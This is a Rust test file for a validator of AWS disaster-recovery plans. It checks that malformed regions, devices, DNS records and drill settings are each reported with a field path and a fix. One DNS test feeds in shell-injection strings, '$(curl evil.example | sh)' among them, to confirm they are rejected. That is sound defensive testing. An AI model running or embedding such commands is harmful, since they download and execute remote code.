//! The DR plan an operator writes: a good one parses, every kind of mistake is
//! reported with the field that holds it and a fix, all at once.

use backstop::error::PlanProblem;
use backstop::plan::{Plan, ResourceKind};
use backstop::BackstopError;
use serde_json::{json, Value};

const EXAMPLE: &str = include_str!("../../tests/plans/example.json");

fn example() -> Value {
    serde_json::from_str(EXAMPLE).unwrap()
}

/// Applies `edit` to the example plan and returns the problems validation reports.
fn problems_after(edit: impl FnOnce(&mut Value)) -> Vec<PlanProblem> {
    let mut plan = example();
    edit(&mut plan);
    match Plan::from_value(plan) {
        Ok(_) => panic!("the edited plan was accepted"),
        Err(BackstopError::InvalidPlan(problems)) => problems,
        Err(other) => panic!("expected InvalidPlan, got {other:?}"),
    }
}

/// Asserts that one problem is reported at `field` with `words` in its message.
fn assert_problem(problems: &[PlanProblem], field: &str, words: &str) {
    assert!(
        problems
            .iter()
            .any(|p| p.field == field && p.message.contains(words) && !p.fix.is_empty()),
        "no problem at `{field}` mentioning \"{words}\"; got: {problems:#?}"
    );
}

/// Sets the field at `pointer`, adding it if its parent object lacks it.
fn set(plan: &mut Value, pointer: &str, value: Value) {
    let (parent, key) = pointer.rsplit_once('/').unwrap();
    match plan.pointer_mut(parent) {
        Some(Value::Object(object)) => {
            object.insert(key.to_string(), value);
        }
        Some(Value::Array(array)) => array[key.parse::<usize>().unwrap()] = value,
        _ => panic!("no {parent}"),
    }
}

fn remove(plan: &mut Value, pointer: &str) {
    let (parent, key) = pointer.rsplit_once('/').unwrap();
    plan.pointer_mut(parent)
        .unwrap()
        .as_object_mut()
        .unwrap()
        .remove(key)
        .unwrap_or_else(|| panic!("no {pointer}"));
}

#[test]
fn the_readme_example_plan_is_valid() {
    let plan = Plan::from_json(EXAMPLE).expect("example plan is valid");
    assert_eq!(plan.dr_region, "us-west-2");
    assert_eq!(plan.resources.len(), 4);
    assert_eq!(plan.resources[2].kind, ResourceKind::Rds);
    let data = plan.resource("app-data").unwrap();
    let attach = data.ebs.as_ref().unwrap().attach_to.as_ref().unwrap();
    assert_eq!(
        (attach.instance.as_str(), attach.device.as_str()),
        ("app", "/dev/sdf")
    );
    assert_eq!(
        plan.instance("app").unwrap().instance_types,
        ["m6i.large", "m5.large"]
    );
    assert_eq!(plan.dns[1].target.resource.as_deref(), Some("orders-db"));
}

#[test]
fn a_plan_survives_a_round_trip_through_json() {
    let plan = Plan::from_json(EXAMPLE).unwrap();
    let again = Plan::from_value(serde_json::to_value(&plan).unwrap()).unwrap();
    assert_eq!(plan, again);
}

#[test]
fn missing_dr_region() {
    let problems = problems_after(|p| remove(p, "/drRegion"));
    assert_problem(&problems, "drRegion", "missing");
}

#[test]
fn malformed_dr_region() {
    let problems = problems_after(|p| set(p, "/drRegion", json!("oregon")));
    assert_problem(&problems, "drRegion", "not an AWS region");
}

#[test]
fn dr_region_equal_to_primary_region() {
    let problems = problems_after(|p| set(p, "/primaryRegion", json!("us-west-2")));
    assert_problem(&problems, "primaryRegion", "same as drRegion");
}

#[test]
fn missing_backup_vault() {
    let problems = problems_after(|p| set(p, "/backupVault", json!("")));
    assert_problem(&problems, "backupVault", "missing");
}

#[test]
fn unknown_resource_kind() {
    let problems = problems_after(|p| set(p, "/resources/3/kind", json!("s3")));
    assert_problem(&problems, "resources[3].kind", "unknown kind \"s3\"");
}

#[test]
fn duplicate_resource_names() {
    let problems = problems_after(|p| set(p, "/resources/1/name", json!("app-data")));
    assert_problem(&problems, "resources[1].name", "used twice");
}

#[test]
fn duplicate_device_names_on_one_instance() {
    let problems =
        problems_after(|p| set(p, "/resources/1/ebs/attachTo/device", json!("/dev/xvdf")));
    assert_problem(
        &problems,
        "resources[1].ebs.attachTo.device",
        "already used by resources[0]",
    );
}

#[test]
fn volume_attached_to_an_unknown_instance() {
    let problems = problems_after(|p| set(p, "/resources/0/ebs/attachTo/instance", json!("web")));
    assert_problem(
        &problems,
        "resources[0].ebs.attachTo.instance",
        "\"web\" is not an instance",
    );
}

#[test]
fn root_device_is_not_a_data_device() {
    let problems =
        problems_after(|p| set(p, "/resources/0/ebs/attachTo/device", json!("/dev/xvda")));
    assert_problem(
        &problems,
        "resources[0].ebs.attachTo.device",
        "not a data volume device",
    );
}

#[test]
fn drill_record_equal_to_production_record() {
    let problems =
        problems_after(|p| set(p, "/dns/0/drillRecordName", json!("APP.shop.example.com.")));
    assert_problem(
        &problems,
        "dns[0].drillRecordName",
        "is a production record",
    );
}

#[test]
fn rto_of_zero_or_less() {
    let problems = problems_after(|p| set(p, "/objectives/rtoMinutes", json!(0)));
    assert_problem(&problems, "objectives.rtoMinutes", "between 1 and");
    let problems = problems_after(|p| set(p, "/objectives/rpoMinutes", json!(-5)));
    assert_problem(&problems, "objectives.rpoMinutes", "got -5");
}

#[test]
fn arn_of_another_kind() {
    let problems = problems_after(|p| {
        set(
            p,
            "/resources/2/arn",
            json!("arn:aws:ec2:us-east-1:123456789012:volume/vol-0123456789abcdef0"),
        )
    });
    assert_problem(
        &problems,
        "resources[2].arn",
        "not the ARN of a rds resource",
    );
}

#[test]
fn resource_in_the_dr_region_itself() {
    let problems = problems_after(|p| {
        set(
            p,
            "/resources/2/arn",
            json!("arn:aws:rds:us-west-2:123456789012:db:orders"),
        )
    });
    assert_problem(&problems, "resources[2].arn", "in the DR region");
}

#[test]
fn resource_without_arn_or_tags() {
    let problems = problems_after(|p| remove(p, "/resources/3/arn"));
    assert_problem(&problems, "resources[3].arn", "missing");
}

#[test]
fn restore_az_outside_the_dr_region() {
    let problems =
        problems_after(|p| set(p, "/resources/0/ebs/availabilityZone", json!("us-east-1a")));
    assert_problem(
        &problems,
        "resources[0].ebs.availabilityZone",
        "not an availability zone of drRegion",
    );
}

#[test]
fn unknown_volume_type() {
    let problems = problems_after(|p| set(p, "/resources/0/ebs/volumeType", json!("gp9")));
    assert_problem(
        &problems,
        "resources[0].ebs.volumeType",
        "unknown volume type",
    );
}

#[test]
fn settings_block_of_the_wrong_kind() {
    let problems = problems_after(|p| {
        set(
            p,
            "/resources/3/rds",
            json!({ "dbInstanceClass": "db.t3.small" }),
        )
    });
    assert_problem(
        &problems,
        "resources[3].rds",
        "rds settings on a resource of kind efs",
    );
}

#[test]
fn golden_ami_given_two_ways() {
    let problems =
        problems_after(|p| set(p, "/instances/0/ami/id", json!("ami-0123456789abcdef0")));
    assert_problem(&problems, "instances[0].ami", "2 ways");
}

#[test]
fn instance_without_types_or_subnets() {
    let problems = problems_after(|p| {
        set(p, "/instances/0/instanceTypes", json!([]));
        set(p, "/instances/0/subnetIds", json!([]));
    });
    assert_problem(&problems, "instances[0].instanceTypes", "empty");
    assert_problem(&problems, "instances[0].subnetIds", "empty");
}

#[test]
fn malformed_security_group_id() {
    let problems = problems_after(|p| set(p, "/instances/0/securityGroupIds/0", json!("default")));
    assert_problem(&problems, "instances[0].securityGroupIds[0]", "not a sg-");
}

#[test]
fn dns_record_pointing_at_an_unknown_resource() {
    let problems = problems_after(|p| set(p, "/dns/1/target/resource", json!("users-db")));
    assert_problem(
        &problems,
        "dns[1].target.resource",
        "not a resource of this plan",
    );
}

#[test]
fn dns_record_of_the_wrong_type_for_its_target() {
    let problems = problems_after(|p| set(p, "/dns/0/recordType", json!("CNAME")));
    assert_problem(
        &problems,
        "dns[0].recordType",
        "CNAME cannot point at an instance",
    );
}

#[test]
fn negative_ttl() {
    let problems = problems_after(|p| set(p, "/dns/0/ttl", json!(-1)));
    assert_problem(&problems, "dns[0].ttl", "between 1 and");
}

#[test]
fn a_plan_that_recovers_nothing() {
    let problems = problems_after(|p| {
        set(p, "/resources", json!([]));
        set(p, "/instances", json!([]));
        set(p, "/dns", json!([]));
    });
    assert_problem(&problems, "resources", "recovers nothing");
}

#[test]
fn a_misspelt_field_is_named_with_its_path() {
    let problems = problems_after(|p| {
        let ebs = p
            .pointer_mut("/resources/0/ebs")
            .unwrap()
            .as_object_mut()
            .unwrap();
        ebs.insert("volumType".into(), json!("gp3"));
    });
    assert_problem(
        &problems,
        "resources[0].ebs.volumType",
        "unknown field `volumType`",
    );
}

#[test]
fn a_field_of_the_wrong_type_is_named_with_its_path() {
    let problems = problems_after(|p| set(p, "/objectives/rtoMinutes", json!("an hour")));
    assert_problem(&problems, "objectives.rtoMinutes", "invalid type");
}

#[test]
fn every_problem_is_reported_at_once() {
    let problems = problems_after(|p| {
        remove(p, "/drRegion");
        set(p, "/resources/3/kind", json!("s3"));
        set(p, "/resources/1/ebs/attachTo/device", json!("/dev/sdf"));
        set(p, "/dns/0/drillRecordName", json!("app.shop.example.com"));
        set(p, "/objectives/rtoMinutes", json!(0));
    });
    for field in [
        "drRegion",
        "resources[3].kind",
        "resources[1].ebs.attachTo.device",
        "dns[0].drillRecordName",
        "objectives.rtoMinutes",
    ] {
        assert!(
            problems.iter().any(|p| p.field == field),
            "{field} missing from {problems:#?}"
        );
    }
}

#[test]
fn the_error_message_lists_each_field_and_fix() {
    let err = Plan::from_value({
        let mut plan = example();
        set(&mut plan, "/backupVault", json!(""));
        set(&mut plan, "/dns/0/ttl", json!(0));
        plan
    })
    .unwrap_err();
    assert_eq!(err.error_name(), "Backstop.InvalidPlan");
    let message = err.to_string();
    assert!(message.contains("2 problems"), "{message}");
    assert!(
        message.contains("backupVault: is missing (fix: name the backup vault"),
        "{message}"
    );
    assert!(message.contains("dns[0].ttl"), "{message}");
}

#[test]
fn garbage_input_is_an_error_not_a_panic() {
    for text in [
        "",
        "null",
        "[]",
        "42",
        "{\"resources\": {}}",
        "{\"name\": 7}",
        "{",
    ] {
        let err = Plan::from_json(text).unwrap_err();
        assert_eq!(err.error_name(), "Backstop.InvalidPlan", "for {text:?}");
    }
}

#[test]
fn an_rpo_near_the_largest_integer_is_a_plan_error_not_a_panic() {
    let problems = problems_after(|p| set(p, "/objectives/rpoMinutes", json!(i64::MAX - 1)));
    assert_problem(&problems, "objectives.rpoMinutes", "between 1 and");
    let problems = problems_after(|p| set(p, "/objectives/rtoMinutes", json!(i64::MAX)));
    assert_problem(&problems, "objectives.rtoMinutes", "between 1 and");
}

#[test]
fn every_dr_region_setting_a_restore_needs_is_required_up_front() {
    let problems = problems_after(|p| {
        remove(p, "/resources/0/ebs/availabilityZone");
        remove(p, "/resources/2/rds/dbSubnetGroupName");
    });
    assert_problem(&problems, "resources[0].ebs.availabilityZone", "is missing");
    assert_problem(
        &problems,
        "resources[2].rds.dbSubnetGroupName",
        "is missing",
    );
    // a kind without its settings block at all
    let problems = problems_after(|p| remove(p, "/resources/1/ebs"));
    assert_problem(&problems, "resources[1].ebs.availabilityZone", "is missing");
    let problems = problems_after(|p| {
        let resources = p["resources"].as_array_mut().unwrap();
        resources.push(json!({
            "name": "legacy", "kind": "ec2",
            "arn": "arn:aws:ec2:us-east-1:123456789012:instance/i-0abc12345678"
        }));
    });
    assert_problem(&problems, "resources[4].ec2.subnetId", "is missing");
}

#[test]
fn volumes_of_one_instance_in_two_azs() {
    let problems =
        problems_after(|p| set(p, "/resources/1/ebs/availabilityZone", json!("us-west-2b")));
    assert_problem(
        &problems,
        "resources[1].ebs.availabilityZone",
        "same instance",
    );
}

#[test]
fn selecting_by_tags_is_refused_until_it_is_built() {
    let problems = problems_after(|p| {
        remove(p, "/resources/3/arn");
        set(p, "/resources/3/tags", json!({ "app": "shop" }));
    });
    assert_problem(&problems, "resources[3].tags", "not supported yet");
}

#[test]
fn too_many_resources_for_one_run() {
    let problems = problems_after(|p| {
        let media = p["resources"][3].clone();
        let resources = p["resources"].as_array_mut().unwrap();
        for i in 0..backstop::plan::MAX_RESOURCES {
            let mut copy = media.clone();
            copy["name"] = json!(format!("fs-{i}"));
            resources.push(copy);
        }
    });
    assert_problem(&problems, "resources", "at most");
}

#[test]
fn drill_records_that_would_write_production_dns() {
    // Route 53 reads \141 as "a": this is app.shop.example.com
    for name in [
        "\\141pp.shop.example.com",
        "APP.SHOP.EXAMPLE.COM.",
        "app.shop.example.com",
    ] {
        let problems = problems_after(|p| set(p, "/dns/0/drillRecordName", json!(name)));
        assert_problem(&problems, "dns[0].drillRecordName", "production record");
    }
    for name in ["*.shop.example.com", "\\052.shop.example.com"] {
        let problems = problems_after(|p| set(p, "/dns/0/drillRecordName", json!(name)));
        assert_problem(&problems, "dns[0].drillRecordName", "wildcard");
    }
    let problems = problems_after(|p| set(p, "/dns/0/drillRecordName", json!("a..b.example.com")));
    assert_problem(&problems, "dns[0].drillRecordName", "empty label");
}

#[test]
fn dns_names_normalize_as_route53_reads_them() {
    use backstop::plan::normalize_dns_name;
    assert_eq!(
        normalize_dns_name("\\141PP.Example.COM.").unwrap(),
        "app.example.com"
    );
    // an escaped dot is part of a label, never a label boundary
    assert_eq!(
        normalize_dns_name("app\\.shop.example.com").unwrap(),
        "app\\.shop.example.com"
    );
    assert_ne!(
        normalize_dns_name("app\\.shop.example.com").unwrap(),
        normalize_dns_name("app.shop.example.com").unwrap()
    );
    assert!(normalize_dns_name("bad\\9").is_err());
    // only printable ASCII unescaped, as Route 53 reads names; escaped, anything goes
    assert!(normalize_dns_name("my\\040app.example.com").is_ok());
    for bad in [
        "my app.example.com",
        "app\nx.example.com",
        "bücher.example.com",
        "$(curl x | sh)",
    ] {
        assert!(normalize_dns_name(bad).is_err(), "{bad:?}");
    }
    let problems = problems_after(|plan| {
        set(
            plan,
            "/dns/0/recordName",
            json!("$(curl evil.example | sh)"),
        );
    });
    assert_problem(&problems, "dns[0].recordName", "DNS name");
}

#[test]
fn unicode_instance_names_are_accepted() {
    let mut plan = example();
    set(&mut plan, "/instances/0/name", json!("anwendungsserver-ü"));
    set(
        &mut plan,
        "/resources/0/ebs/attachTo/instance",
        json!("anwendungsserver-ü"),
    );
    set(
        &mut plan,
        "/resources/1/ebs/attachTo/instance",
        json!("anwendungsserver-ü"),
    );
    set(
        &mut plan,
        "/dns/0/target/instance",
        json!("anwendungsserver-ü"),
    );
    Plan::from_value(plan).expect("a unicode instance name is valid");
}

#[test]
fn a_huge_bad_input_gives_a_short_error() {
    let mut plan = example();
    set(&mut plan, "/name", json!("X".repeat(1_000_000)));
    let resources = plan["resources"].as_array_mut().unwrap();
    for i in 0..5_000 {
        resources.push(json!({ "name": format!("Bad {i}"), "kind": "nope" }));
    }
    let err = Plan::from_value(plan).unwrap_err();
    let message = err.operator_message();
    assert!(message.len() < 20_000, "{} bytes", message.len());
    assert!(
        message.contains("more"),
        "{}",
        &message[message.len() - 200..]
    );
}

#[test]
fn a_drill_block_of_its_own_network_is_valid() {
    let mut plan = example();
    set(
        &mut plan,
        "/drill",
        json!({
            "subnetIds": ["subnet-0d111111111111111"],
            "securityGroupIds": ["sg-0d222222222222222"],
            "instanceProfile": "backstop-drill",
            "userData": "#!/bin/sh\necho drill",
            "dbSubnetGroupName": "drill-db-subnets",
            "rdsSecurityGroupIds": ["sg-0d333333333333333"]
        }),
    );
    Plan::from_value(plan).expect("an isolated drill network is valid");
}

#[test]
fn a_drill_block_reusing_production_ids_is_not_isolated() {
    let plan = example();
    let subnet = plan["instances"][0]["subnetIds"][0].clone();
    let group = plan["instances"][0]["securityGroupIds"][0].clone();
    let db_group = plan["resources"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["kind"] == "rds")
        .unwrap()["rds"]["dbSubnetGroupName"]
        .clone();
    let problems = problems_after(|plan| {
        set(
            plan,
            "/drill",
            json!({
                "subnetIds": [subnet, "subnet-bad"],
                "securityGroupIds": [group],
                "dbSubnetGroupName": db_group
            }),
        )
    });
    assert_problem(&problems, "plan.drill.subnetIds[0]", "production subnet");
    assert_problem(&problems, "plan.drill.subnetIds[1]", "is not a subnet-");
    assert_problem(
        &problems,
        "plan.drill.securityGroupIds[0]",
        "production security group",
    );
    assert_problem(
        &problems,
        "plan.drill.dbSubnetGroupName",
        "production DB subnet group",
    );
}

#[test]
fn a_dns_record_cannot_point_at_an_optional_resource() {
    let plan = example();
    let Some(rds) = plan["resources"]
        .as_array()
        .unwrap()
        .iter()
        .position(|r| r["kind"] == "rds")
    else {
        panic!("the example plan has an rds resource")
    };
    let name = plan["resources"][rds]["name"].as_str().unwrap().to_string();
    let problems = problems_after(|plan| {
        set(plan, &format!("/resources/{rds}/optional"), json!(true));
        let dns = plan["dns"].as_array_mut().unwrap();
        dns[0]["target"] = json!({ "resource": name });
        dns[0]["recordType"] = json!("CNAME");
    });
    assert_problem(&problems, "dns[0].target.resource", "optional");
}

#[test]
fn a_failover_alarm_record_names_its_alarm_and_elastic_ip_and_points_at_an_instance() {
    let mut good = example();
    set(&mut good, "/dns/0/method", json!("failoverAlarm"));
    set(&mut good, "/dns/0/alarmName", json!("app-failover"));
    set(
        &mut good,
        "/dns/0/elasticIpAllocationId",
        json!("eipalloc-0123456789abcdef0"),
    );
    Plan::from_value(good).expect("a complete failoverAlarm record is valid");

    let problems = problems_after(|p| set(p, "/dns/0/method", json!("failoverAlarm")));
    assert_problem(&problems, "dns[0].alarmName", "is missing");
    assert_problem(&problems, "dns[0].elasticIpAllocationId", "is missing");

    // an RDS endpoint has no address to hold ahead of time
    let problems = problems_after(|p| {
        set(p, "/dns/1/method", json!("failoverAlarm"));
        set(p, "/dns/1/alarmName", json!("db-failover\u{7}"));
        set(p, "/dns/1/elasticIpAllocationId", json!("eip-123"));
    });
    assert_problem(
        &problems,
        "dns[1].target.instance",
        "must point at an instance",
    );
    assert_problem(&problems, "dns[1].recordType", "type A");
    assert_problem(&problems, "dns[1].alarmName", "printable ASCII");
    assert_problem(
        &problems,
        "dns[1].elasticIpAllocationId",
        "not an Elastic IP allocation id",
    );

    // the settings of the method only with the method
    let problems = problems_after(|p| set(p, "/dns/0/alarmName", json!("app-failover")));
    assert_problem(&problems, "dns[0].alarmName", "only used with method");
}
